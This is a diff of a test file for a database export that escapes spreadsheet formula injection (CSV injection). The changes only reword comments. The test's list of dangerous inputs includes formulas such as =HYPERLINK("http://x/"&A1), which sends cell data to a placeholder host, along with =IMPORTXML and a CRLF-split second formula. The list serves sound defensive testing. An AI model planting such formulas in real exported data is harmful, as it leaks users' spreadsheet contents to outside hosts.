@@ -8,7 +8,7 @@ beforeAll(async () => {
 });
 afterAll(() => database.close());
 
-/** What spreadsheets run, also behind characters they skip (CWE-1236, OWASP "CSV injection"). */
+/** Texts that spreadsheets run, also behind characters they skip (CWE-1236, OWASP "CSV injection"). */
 const DANGEROUS = [
   '=1+1',
   '+1+1',
@@ -39,7 +39,7 @@ const DANGEROUS = [
   '=HYPERLINK("http://x/"&A1)',
   '=IMPORTXML("http://x","//a")',
   '=1+1\r\n=2+2',
-  // What seems guarded already, or nobody could tell whose the apostrophe is.
+  // Texts that look guarded already: without another apostrophe, nobody could tell whose the first one is.
   "'=1",
   "''=1",
   "'-x",
@@ -81,7 +81,7 @@ describe('text that a spreadsheet would run gets an apostrophe and everything el
     async (type) => {
       await database.store(ALL.map((text) => ({ data: { a: text } })));
       const [, ...rows] = await database.export([aField('a', type)], ['id', 'a']);
-      // A number stored as text is a number still.
+      // In a number field, a text that is a number counts as a number.
       const expected = ALL.map((text) => (type === 'number' && text === '-5' ? text : guarded(text)));
       expect(rows.map((row) => row[1])).toEqual(expected);
     },
